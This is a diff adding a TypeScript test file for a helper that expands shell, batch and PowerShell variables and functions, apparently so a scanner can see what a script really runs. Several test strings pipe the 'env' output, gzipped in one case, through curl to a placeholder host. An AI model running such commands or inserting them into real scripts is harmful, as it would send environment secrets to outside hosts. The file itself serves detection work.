@@ -1,0 +1,29 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+
+import { newWords, writtenOut } from './script-words.ts';
+
+function written(...lines: string[]): string | undefined {
+  const words = newWords();
+  return lines.map(line => writtenOut(line, words)).at(-1);
+}
+
+describe('what a script has said before', () => {
+  it('a variable of a shell, of Windows, of PowerShell', () => {
+    assert.equal(written('URL="https://a.invalid"', 'curl ${URL}/x'), 'curl https://a.invalid/x');
+    assert.equal(written('set URL=https://a.invalid', 'curl %URL%'), 'curl https://a.invalid');
+    assert.equal(written(`$url = 'https://a.invalid'`, 'iwr $url'), 'iwr https://a.invalid');
+  });
+  it('a function in one line, with what it is given', () =>
+    assert.equal(written('send() { curl -d @- "$1"; }', 'env | send https://a.invalid'), 'env | { curl -d @- "https://a.invalid"; }'));
+  it('a function over several lines', () =>
+    assert.equal(written('function send {', 'gzip', 'curl -d @- $1', '}', 'env | send x'), 'env | { gzip; curl -d @- x; }'));
+  it('functions that call functions', () => assert.equal(written('a() { env; }', 'b() { a | gzip; }', 'b'), '{ { env; } | gzip; }'));
+});
+
+describe('what it has not said', () => {
+  it('a name of nobody stays', () => assert.equal(written('A=1', 'echo $B ${C} %D%'), 'echo $B ${C} %D%'));
+  it('an argument is no command', () => assert.equal(written('send() { curl x; }', 'echo send'), 'echo send'));
+  it('a value that a command gives is not known', () => assert.equal(written('A=$(whoami)', 'echo $A'), 'echo $A'));
+  it('a function that calls itself ends', () => assert.ok((written('a() { a; a; }', 'a') ?? '').length < 20_000));
+});
